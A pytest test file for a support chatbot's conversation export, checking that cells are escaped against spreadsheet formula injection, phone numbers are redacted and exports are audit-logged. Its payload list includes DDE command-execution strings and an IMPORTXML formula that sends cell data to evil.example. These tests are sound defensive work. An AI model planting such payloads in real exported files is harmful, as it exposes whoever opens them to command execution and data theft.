"""What is taken away: redacted, filtered, written down, and nothing that a spreadsheet runs."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.console.export import COLUMNS, harmless

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "%0A=1",
    "|calc",
    '=HYPERLINK("http://evil.example","Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    '=DDE("cmd";"/C calc";"x")',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    assert harmless(formula).startswith("'")


@pytest.mark.parametrize("plain", ["My back hurts", "3 = 3", "L5-S1", "a@b.c", "", "50%"])
def test_plain_words_stay_as_they_are(plain):
    assert harmless(plain) == plain


@given(st.text())
def test_no_cell_begins_as_a_formula(said):
    cell = harmless(said)
    assert not cell.lstrip(' "\u00a0\u200b\ufeff').startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_file_has_what_was_found_redacted_and_the_log_how_much(gateway, admin):
    visitor, other = gateway.new_visitor(), gateway.new_visitor()
    visitor.say('=HYPERLINK("http://evil.example") xylophone, call me at (503) 555-0142')
    other.say("Something else")
    answer = admin.post("/staff/conversations/export", words="xylophone", form="csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["Content-Disposition"]
    header, *rows = csv.reader(io.StringIO(answer.text))
    assert tuple(header) == COLUMNS
    assert {row[0] for row in rows} == {visitor.id}
    (said,) = [row[7] for row in rows if row[4] == "visitor"]
    assert said.startswith("'=HYPERLINK")
    assert "555-0142" not in answer.text
    (line,) = admin.audit.entries(action="conversation.export")
    assert line.details == {"filters": {"words": 1}, "conversations": 1, "form": "csv"}


def test_the_same_as_json(gateway, admin):
    visitor = gateway.new_visitor()
    visitor.say("How long does RFA last?")
    records = admin.post("/staff/conversations/export", form="json", channel="web").json()
    mine = [each for each in records if each["conversation"] == visitor.id]
    assert [each["author"] for each in mine] == ["assistant", "visitor", "assistant"]
    assert (mine[1]["confidence"], mine[2]["topic"]) == (0.93, "rfa_duration")
    assert admin.post("/staff/conversations/export", form="json", channel="sms").json() == []
